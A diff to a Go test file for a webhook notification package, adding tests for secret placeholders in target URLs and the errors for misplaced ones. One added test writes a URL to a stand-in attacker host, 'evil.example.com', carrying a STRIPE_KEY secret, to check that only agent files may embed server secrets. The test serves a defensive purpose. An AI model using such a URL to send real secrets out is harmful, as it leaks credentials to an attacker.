@@ -32,6 +32,9 @@ func TestTargetsThatCanBeUsed(t *testing.T) {
 		"a template": pager(func(p *notice.Target) {
 			p.Format, p.Template = notice.FormatTemplate, json.RawMessage(`{"text":"{run}"}`)
 		}),
+		"a secret": pager(func(p *notice.Target) {
+			p.URL = "https://hooks.example.com/services/{secret:HOOK_PATH}?sig={secret:SIG}"
+		}),
 		"http":     pager(func(p *notice.Target) { p.URL, p.AllowPrivate = "http://127.0.0.1:9000", true }),
 		"IPv6":     pager(func(p *notice.Target) { p.URL = "https://[2606:4700::1111]:8443/a%20b" }),
 		"standard": pager(func(p *notice.Target) { p.Format = notice.FormatStandard }),
@@ -56,6 +59,11 @@ func TestMistakesInTargetsNameTheirField(t *testing.T) {
 		{pager(func(p *notice.Target) { p.URL = "" }), "url: missing; set url or mail"},
 		{pager(func(p *notice.Target) { p.Mail = []string{"a@example.com"} }), "url: url and mail are both set"},
 		{pager(func(p *notice.Target) { p.URL = "http://pager.example.com" }), "url: http is not encrypted"},
+		{pager(func(p *notice.Target) { p.URL = "https://{secret:HOST}/hook" }), "url: can have a secret only behind the host"},
+		{pager(func(p *notice.Target) { p.URL = "https://a.example{secret:HOST}" }), "url: can have a secret only behind the host"},
+		{pager(func(p *notice.Target) { p.URL = "{secret:URL}" }), "url: not an absolute URL"},
+		{pager(func(p *notice.Target) { p.URL = "https://a.example/{secret:lower}" }), "url: has a brace that belongs to no secret"},
+		{pager(func(p *notice.Target) { p.URL = "https://a.example/{id}" }), "url: has a brace that belongs to no secret"},
 		{pager(func(p *notice.Target) { p.URL = "ftp://pager.example.com" }), "url: must begin with https://"},
 		{pager(func(p *notice.Target) { p.URL = "/hook" }), "url: not an absolute URL"},
 		{pager(func(p *notice.Target) { p.URL = "https://" }), "url: not an absolute URL"},
@@ -113,6 +121,28 @@ func TestListsOfTargets(t *testing.T) {
 		}
 		if got != want {
 			t.Errorf("got  %s\nwant %s", got, want)
+		}
+	}
+}
+
+// Who may only start runs must not get at a secret of the server.
+func TestOnlyAgentFilesPutSecretsIntoAURLOrATemplate(t *testing.T) {
+	for field, target := range map[string]notice.Target{
+		"url": pager(func(p *notice.Target) { p.URL = "https://evil.example.com/{secret:STRIPE_KEY}" }),
+		"template": pager(func(p *notice.Target) {
+			p.Format, p.Template = notice.FormatTemplate, json.RawMessage(`{"k":"{secret:STRIPE_KEY}"}`)
+		}),
+	} {
+		if err := target.Check(); err != nil {
+			t.Errorf("%s in an agent file: %v", field, err)
+		}
+		for _, err := range []error{target.CheckOutside(), notice.CheckTargets("notify", []notice.Target{target}, 5)} {
+			if err == nil || !strings.Contains(err.Error(), field+": only an agent file") {
+				t.Errorf("%s: %v", field, err)
+			}
+		}
+		if got := target.Placeholders(); len(got) != 1 || got[0] != "STRIPE_KEY" {
+			t.Errorf("%s: %q", field, got)
 		}
 	}
 }
